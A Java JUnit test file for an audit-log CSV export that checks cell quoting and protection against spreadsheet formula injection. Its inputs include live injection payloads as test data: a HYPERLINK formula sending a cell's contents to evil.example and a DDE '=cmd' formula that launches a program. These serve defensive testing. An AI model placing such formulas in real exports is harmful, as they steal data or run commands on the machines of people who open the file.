package io.fincopilot.audit.boundary;

import static org.junit.jupiter.api.Assertions.assertEquals;

import io.fincopilot.audit.entity.AuditEntry;
import io.fincopilot.audit.entity.AuditEvent;
import java.time.Instant;
import java.util.List;
import java.util.UUID;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The audit export is RFC 4180 CSV in which every cell is quoted, and no cell a spreadsheet opens
 * can run as a formula (OWASP, CSV injection).
 */
class AuditCsvTest {

    static Stream<Arguments> quoting() {
        return Stream.of(
                Arguments.of("plain", "\"plain\""),
                Arguments.of("", "\"\""),
                Arguments.of("say \"hi\"", "\"say \"\"hi\"\"\""),
                Arguments.of("\"", "\"\"\"\""),
                Arguments.of("a,b", "\"a,b\""),
                Arguments.of("a;b", "\"a;b\""),
                Arguments.of("line\nnext", "\"line\nnext\""),
                Arguments.of("line\r\nnext", "\"line\r\nnext\""));
    }

    @ParameterizedTest
    @MethodSource("quoting")
    void everyCellIsQuotedWithItsQuotesDoubledSoSeparatorsAndLineBreaksStayInside(String value, String cell) {
        assertEquals(cell, AuditCsv.cell(value));
    }

    @Test
    void anAbsentValueIsAnEmptyUnquotedCell() {
        assertEquals("", AuditCsv.cell(null));
    }

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "\tplain", "\rplain",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "-", "="})
    void aCellStartingWithAFormulaCharacterGetsAnApostrophe(String value) {
        assertEquals("\"'" + value.replace("\"", "\"\"") + "\"", AuditCsv.cell(value));
    }

    @ParameterizedTest
    @ValueSource(strings = {" =1+1", "   +1", " \n-1", "\n@SUM(A1)", "\u00a0=1+1", "\u2003=1+1", " \t x"})
    void soDoesOneThatStartsWithAFormulaCharacterAfterLeadingBlanks(String value) {
        assertEquals("\"'" + value + "\"", AuditCsv.cell(value));
    }

    @ParameterizedTest
    @ValueSource(strings = {"key:abc", "person:ana", "a=b", "1+1", "203.0.113.7", "2001:db8::1", "{\"role\":\"viewer\"}",
        " spaced", "'quoted", "   "})
    void anythingElseIsLeftAsItIs(String value) {
        assertEquals("\"" + value.replace("\"", "\"\"") + "\"", AuditCsv.cell(value));
    }

    @Test
    void theExportIsAHeaderAndOneCrlfTerminatedRowAnEvent() {
        AuditEvent event = new AuditEvent(UUID.fromString("3f2504e0-4f89-11d3-9a0c-0305e82c3301"), 7,
                Instant.parse("2026-11-22T12:00:00Z"), "=cmd|' /C calc'!A0", "person", "document.uploaded",
                "doc:\"q3\", draft", null, "SUCCESS", "{\"name\":\"-2+3\"}", "k1", "prev", "abc123");
        assertEquals("tenant,sequence,occurred_at,actor,actor_type,action,target,source_ip,outcome,details,hash,"
                + "actor_name,target_name\r\n"
                + "\"3f2504e0-4f89-11d3-9a0c-0305e82c3301\",\"7\",\"2026-11-22T12:00:00Z\",\"'=cmd|' /C calc'!A0\","
                + "\"person\",\"document.uploaded\",\"doc:\"\"q3\"\", draft\",,\"SUCCESS\",\"{\"\"name\"\":\"\"-2+3\"\"}\","
                + "\"abc123\",\"'@ana\",\r\n", AuditCsv.of(List.of(new AuditEntry(event, "@ana", null))));
    }

    @Test
    void noEventsIsTheHeaderAlone() {
        assertEquals("tenant,sequence,occurred_at,actor,actor_type,action,target,source_ip,outcome,details,hash,"
                + "actor_name,target_name\r\n", AuditCsv.of(List.of()));
    }
}
